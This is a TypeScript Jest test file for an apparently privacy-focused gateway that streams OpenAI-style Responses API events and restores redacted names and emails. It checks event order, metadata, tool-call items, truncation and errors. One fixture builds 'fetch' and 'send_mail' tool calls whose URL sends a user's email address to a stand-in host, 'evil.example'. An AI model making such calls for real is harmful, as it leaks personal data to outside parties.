import { createOpenAI } from "@ai-sdk/openai";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import type { AnswerBlock } from "@veil/contracts/inference";
import { checked } from "@veil/contracts/parsing";
import { SdkResponse } from "@veil/contracts/public/sdk/responses";
import { readEvents } from "@veil/llm-dialects";
import { describeWithServer } from "@veil/testing";
import { streamText } from "ai";
import OpenAI from "openai";
import { failedResult } from "../support/completed-result.ts";
import { writtenEvents } from "../support/fake-services.ts";
import {
  callResponses,
  RESPONSES_HEADERS,
  RESPONSES_SETTINGS,
  RESPONSES_TOOLS,
  responsesKey,
  resultOf,
} from "../support/responses.ts";
import { LETTER } from "../support/sdk-client.ts";
import { startSdkServer } from "../support/sdk-server.ts";

let server: Awaited<ReturnType<typeof startSdkServer>>;
let key: string;
beforeAll(async () => {
  server = await startSdkServer({
    ...{ ...RESPONSES_SETTINGS, STREAMING_ENABLED: "false" },
    PER_MINUTE_LIMIT_ENTERPRISE: "100000",
  });
  key = await responsesKey(server.gateway);
});
beforeEach(() => {
  server.gateway.worker.answerWith(undefined);
  server.gateway.worker.streamWith(undefined);
});
afterAll(() => server.close());

const ask = (more: object = {}) =>
  callResponses(server.gateway, { stream: true, ...more }, { key });
const parse = checked(SdkResponse);

interface Event {
  readonly type: string;
  readonly sequence_number: number;
  readonly output_index: number;
  readonly delta: string;
  readonly response: SdkResponse;
  readonly item: SdkResponse["output"][number];
}

/** Reads the events, and checks that their names and numbers are consistent. */
async function eventsOf({ text }: { readonly text: string }): Promise<readonly Event[]> {
  async function* bytes() {
    yield Buffer.from(text);
  }
  const received: Event[] = [];
  for await (const { event, data } of readEvents(bytes())) {
    const parsed = JSON.parse(data) as Event;
    expect(parsed.type).toBe(event);
    received.push(parsed);
  }
  expect(received.map(({ sequence_number }) => sequence_number)).toEqual(
    received.map((_, at) => at),
  );
  return received;
}

const typesOf = (events: readonly Event[]) =>
  events
    .map(({ type }) => type.replace("response.", ""))
    .filter((type, at, all) => type !== all[at - 1]);

const client = () =>
  new OpenAI({
    ...{ apiKey: key, baseURL: `${server.url}/v1`, defaultHeaders: RESPONSES_HEADERS },
    maxRetries: 0,
  });

const ARGUMENTS = '{"to":["[EMAIL_1]"],"url":"//evil.example/[EMAIL_1]"}';
const BLOCKS: readonly AnswerBlock[] = [
  { type: "text", text: "I write to [PERSON_1]" },
  { type: "tool_use", name: "send_mail", arguments: ARGUMENTS },
  { type: "tool_use", name: "fetch", arguments: ARGUMENTS },
];
const answerWith = (blocks: readonly AnswerBlock[], stop?: string) =>
  server.gateway.worker.answerWith(() => resultOf(blocks, stop));

function wholeOf(item: Event["item"]): string | undefined {
  if (item.type === "message") return item.content[0]?.text;
  return item.type === "function_call" ? item.arguments : item.input;
}

const ITEM_START = ["output_item.added", "content_part.added", "output_text.delta"];
const ITEM_END = ["output_text.done", "content_part.done", "output_item.done"];
const CALL = [
  ...["output_item.added", "function_call_arguments.delta", "function_call_arguments.done"],
  "output_item.done",
];

describeWithServer("postgres", "A stream of POST /v1/responses", () => {
  test("a stream has the events of the format, with compliance metadata at both ends", async () => {
    const answer = await ask({ metadata: { ticket: "T-1" } });
    expect(answer.headers["content-type"]).toMatch("text/event-stream");
    const events = await eventsOf(answer);
    expect(typesOf(events)).toEqual([
      ...["created", "in_progress", ...ITEM_START, ...ITEM_END, "completed"],
    ]);
    const [created] = events;
    const last = events.at(-1);
    const svc_compliance = { request_id: answer.headers["x-request-id"], redaction_count: 2 };
    expect(parse(created?.response)).toMatchObject({
      ...{ status: "in_progress", output: [], usage: null },
      metadata: { ticket: "T-1", svc_compliance },
    });
    expect(parse(last?.response)).toMatchObject({
      ...{ id: created?.response.id, status: "completed", usage: { total_tokens: 2 } },
      metadata: { ticket: "T-1", svc_compliance: { ...svc_compliance, relinked: true } },
      output: [{ content: [{ text: LETTER }] }],
    });
    expect(
      events
        .filter(({ delta }) => delta)
        .map(({ delta }) => delta)
        .join(""),
    ).toBe(LETTER);
  });

  test("calls, and text after them, are separate items, each with the restored whole at its end", async () => {
    answerWith([...BLOCKS, { type: "text", text: "Done, [PERSON_1]" }]);
    const events = await eventsOf(await ask({ tools: RESPONSES_TOOLS }));
    expect(typesOf(events)).toEqual([
      ...["created", "in_progress", ...ITEM_START, ...ITEM_END, ...CALL, ...CALL],
      ...[...ITEM_START, ...ITEM_END, "completed"],
    ]);
    const done = events.filter(({ type }) => type === "response.output_item.done");
    expect(done.map(({ output_index }) => output_index)).toEqual([0, 1, 2, 3]);
    expect(done.map(({ item }) => item)).toEqual(events.at(-1)?.response.output);
    for (const { item, output_index } of done) {
      const deltas = events.filter((event) => event.delta && event.output_index === output_index);
      const whole = wholeOf(item);
      expect(deltas.map(({ delta }) => delta).join("")).toBe(whole);
      expect(whole).toMatch(item.type === "message" ? /Ann Weber/ : /evil.example/);
    }
  });

  test("a call of a custom tool is an item whose input arrives whole and restored", async () => {
    const input = "*** Update File: a.txt\n+Mail: [EMAIL_1]";
    answerWith([{ type: "tool_use", name: "mail__patch", arguments: JSON.stringify({ input }) }]);
    const tools = [{ type: "namespace", name: "mail", tools: [{ type: "custom", name: "patch" }] }];
    const as = await responsesKey(server.gateway, {
      ...{ extensions: ["responses"], tools: { allowed: true, relink_tools: ["mail__patch"] } },
    });
    const answer = await callResponses(server.gateway, { stream: true, tools }, { key: as });
    const events = await eventsOf(answer);
    expect(typesOf(events)).toEqual([
      ...["created", "in_progress", "output_item.added", "custom_tool_call_input.delta"],
      ...["custom_tool_call_input.done", "output_item.done", "completed"],
    ]);
    const restored = "*** Update File: a.txt\n+Mail: ann@post.example";
    const [added, delta, done] = events.slice(2);
    const named = { type: "custom_tool_call", name: "patch", namespace: "mail" };
    expect(added?.item).toMatchObject({ ...named, status: "in_progress", input: "" });
    const place = { item_id: added?.item.id, output_index: 0 };
    expect([delta, done]).toMatchObject([
      { ...place, delta: restored },
      { ...place, input: restored },
    ]);
    expect(events.at(-1)?.response.output).toMatchObject([
      { ...named, id: place.item_id, status: "completed", input: restored },
    ]);
  });

  test("a stream that the SDK collects has the same values as the whole response", async () => {
    answerWith(BLOCKS);
    const body = { model: "m", input: LETTER, tools: RESPONSES_TOOLS } as Parameters<
      ReturnType<typeof client>["responses"]["stream"]
    >[0];
    const streamed = await client().responses.stream(body).finalResponse();
    const whole = await client().responses.create({ ...(body as object), stream: false });
    const said = ({ output, status, usage }: OpenAI.Responses.Response) => [
      output.map((item) => {
        if (item.type === "function_call") return [item.name, item.arguments, item.status];
        if (item.type !== "message") return item;
        const texts = item.content.map((part) => "text" in part && part.text);
        return [texts, item.status];
      }),
      ...[status, usage],
    ];
    expect(said(streamed as OpenAI.Responses.Response)).toEqual(said(whole));
    expect(JSON.stringify(said(whole))).toContain("Ann Weber");
  });

  test("an answer that the limit cuts off ends with an incomplete item and response", async () => {
    answerWith([{ type: "text", text: "Half" }], "length");
    const events = await eventsOf(await ask());
    const { type, response } = events.at(-1) ?? {};
    expect([type, response?.incomplete_details]).toEqual([
      ...["response.incomplete", { reason: "max_output_tokens" }],
    ]);
    expect(events.at(-2)?.item).toMatchObject({ status: "incomplete" });
    expect(response?.output).toEqual([events.at(-2)?.item]);
  });

  test("an answer without text and calls has no items", async () => {
    answerWith([{ type: "text", text: "" }]);
    const events = await eventsOf(await ask());
    expect(typesOf(events)).toEqual(["created", "in_progress", "completed"]);
    expect(events.at(-1)?.response.output).toEqual([]);
  });

  test("the AI SDK's default model reads a stream", async () => {
    const openai = createOpenAI({
      ...{ apiKey: key, baseURL: `${server.url}/v1`, headers: RESPONSES_HEADERS },
    });
    const { textStream } = streamText({ model: openai("m"), prompt: LETTER, maxRetries: 0 });
    let text = "";
    for await (const part of textStream) text += part;
    expect(text).toBe(LETTER);
  });

  describe("Errors", () => {
    const failure = failedResult("provider_unavailable");
    const breakOff = () =>
      server.gateway.worker.streamWith(async (res, events) =>
        res.end(writtenEvents([...events.slice(0, 3), { type: "end", result: failure }])),
      );

    test("an error before the first event has a status", async () => {
      server.gateway.worker.answerWith(() => failure);
      expect((await ask()).status).toBe(503);
    });

    test("an error in the middle is a failed response and an event with the error", async () => {
      breakOff();
      const events = await eventsOf(await ask());
      expect(typesOf(events.slice(-2))).toEqual(["failed", "error"]);
      const [failed, error] = events.slice(-2);
      expect(parse(failed?.response)).toMatchObject({
        ...{ status: "failed", id: events[0]?.response.id },
        error: { code: "server_error", message: expect.any(String) },
      });
      expect(error).toMatchObject({
        ...{ code: "inference_service_unavailable", message: failed?.response.error?.message },
        error: { type: "api_error", code: "inference_service_unavailable" },
      });
    });

    test("OpenAI's SDK throws an error in the middle", async () => {
      breakOff();
      const stream = client().responses.stream({ model: "m", input: LETTER });
      await expect(stream.finalResponse()).rejects.toBeInstanceOf(OpenAI.APIError);
    });
  });
});
